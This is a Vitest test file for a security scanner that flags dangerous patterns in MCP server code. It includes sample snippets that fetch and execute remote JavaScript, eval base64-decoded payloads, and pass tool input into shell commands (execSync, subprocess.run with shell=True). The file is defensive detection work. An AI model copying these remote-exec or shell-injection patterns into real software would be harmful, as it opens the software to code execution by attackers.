import { describe, expect, it } from 'vitest';
import { scanCode } from '../../src/mcp/analyze/code-scan.js';
import { extractSurface } from '../../src/mcp/scan.js';
import { parseSource } from '../../src/mcp/analyze/sg.js';
import { JS_MATCHERS } from '../../src/mcp/rules/code-js.js';
import { PY_MATCHERS } from '../../src/mcp/rules/code-py.js';
import { RULES } from '../../src/mcp/rules/meta.js';
import type { CodeMatcher } from '../../src/mcp/rules/code-types.js';

function hitsFor(m: CodeMatcher, code: string): string[] {
  const path = m.lang === 'python' ? 'server.py' : 'server.ts';
  const file = { path, text: code };
  const { surface } = extractSurface([file]);
  const handlers = surface.tools.filter((t) => t.handler).map((t) => ({ ...t.handler!, tool: t.name }));
  return scanCode(file, parseSource(m.lang === 'python' ? 'python' : 'ts', code), m.lang === 'python' ? 'python' : 'ts', handlers, [m]).map((h) => h.id);
}

/** A matcher's family: its own id and the ids its refinement may switch to. */
const FAMILY: Record<string, string[]> = {
  'mcp/code/shell-string': ['mcp/code/shell-string', 'mcp/code/shell-injection'],
  'mcp/code/dynamic-eval': ['mcp/code/dynamic-eval', 'mcp/code/remote-code-exec', 'mcp/code/decoded-exec'],
};

describe.each([...JS_MATCHERS, ...PY_MATCHERS].map((m, i) => [`${m.lang} ${m.id} #${i}`, m] as const))('code rule %s', (_name, m) => {
  const family = FAMILY[m.id] ?? [m.id];
  it('has metadata and examples of both kinds', () => {
    expect(RULES[m.id]).toBeDefined();
    expect(m.examples.hit.length).toBeGreaterThan(0);
    expect(m.examples.safe.length).toBeGreaterThan(0);
  });
  it.each(m.examples.hit)('matches %s', (code) => {
    expect(hitsFor(m, code).some((id) => family.includes(id))).toBe(true);
  });
  it.each(m.examples.safe)('does not match %s', (code) => {
    expect(hitsFor(m, code).filter((id) => family.includes(id))).toEqual([]);
  });
});

describe('refinements pick the specific id', () => {
  it.each([
    ['js', 'const code = await (await fetch("https://cdn.example.net/x.js")).text(); new Function(code)();', 'mcp/code/remote-code-exec'],
    ['js', 'eval(Buffer.from("Y29uc29sZS5sb2coMSk=", "base64").toString());', 'mcp/code/decoded-exec'],
    ['js', 'server.tool("t", "d", { a: z.string() }, async ({ a }) => { execSync(`git log ${a}`); });', 'mcp/code/shell-injection'],
    ['python', 'exec(base64.b64decode("cHJpbnQoMSk="))', 'mcp/code/decoded-exec'],
    ['python', '@mcp.tool()\ndef t(b: str) -> str:\n    """x"""\n    return subprocess.run(f"git log {b}", shell=True)\n', 'mcp/code/shell-injection'],
  ] as const)('%s: %s → %s', (lang, code, id) => {
    const ms = lang === 'python' ? PY_MATCHERS : JS_MATCHERS;
    const ids = ms.flatMap((m) => hitsFor(m, code));
    expect(ids).toContain(id);
  });
});
